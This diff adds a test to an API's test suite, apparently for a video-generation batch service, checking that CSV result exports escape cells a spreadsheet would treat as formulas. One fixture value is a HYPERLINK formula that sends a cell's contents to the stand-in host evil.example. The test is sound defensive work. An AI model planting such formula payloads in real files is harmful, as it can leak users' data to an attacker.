@@ -104,6 +104,38 @@ describe('GET /v1/batches/:id/results', () => {
     expect((await view(id)).cost_usd).toBe(0.125);
   });
 
+  it('escapes cells a spreadsheet would run as formulas (=, +, -, @, tab, CR), header included', async () => {
+    const csv = [
+      'prompt,custom_id,=cmd,note',
+      '"=HYPERLINK(""http://evil.example/?""&A1,""open"")",+1,@SUM(A1),-2+3',
+      'a calm lake,plain,"\tx",ok',
+    ].join('\n');
+    const res = await postBatch(t.app, csv);
+    expect(res.statusCode).toBe(202);
+    const { id } = res.json<Created>();
+    await store.setRowStatus(id, 1, 'failed', { error: { code: 'generation_failed', message: '=1+1' } });
+    await store.setRowStatus(id, 2, 'failed', { error: { code: 'generation_failed', message: '\r=1' } });
+
+    const out = await t.app.inject({ method: 'GET', url: `/v1/batches/${id}/results?format=csv` });
+    expect(out.statusCode).toBe(200);
+    const lines = out.body.split('\n');
+    expect(lines[0]).toBe(
+      "row,custom_id,status,video_url,error_code,error_message,generation_id,cost_usd,prompt,model,'=cmd,note",
+    );
+    expect(lines[1]).toBe(
+      `1,'+1,failed,,generation_failed,'=1+1,,,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",sber-ai/kandinsky5-distill-t2v,'@SUM(A1),'-2+3`,
+    );
+    expect(lines[2]).toBe(
+      `2,plain,failed,,generation_failed,"'\r=1",,,a calm lake,sber-ai/kandinsky5-distill-t2v,'\tx,ok`,
+    );
+    // JSONL carries the values as they are: it is not opened by spreadsheets.
+    const jsonl = await t.app.inject({ method: 'GET', url: `/v1/batches/${id}/results` });
+    expect(JSON.parse(jsonl.body.split('\n')[0] ?? '')).toMatchObject({
+      custom_id: '+1',
+      metadata: { '=cmd': '@SUM(A1)', note: '-2+3' },
+    });
+  });
+
   it('keeps results readable after BullMQ removed the jobs', async () => {
     const id = await create();
     await store.setRowStatus(id, 1, 'completed', { video_url: 'u1', generation_id: 'g1' });
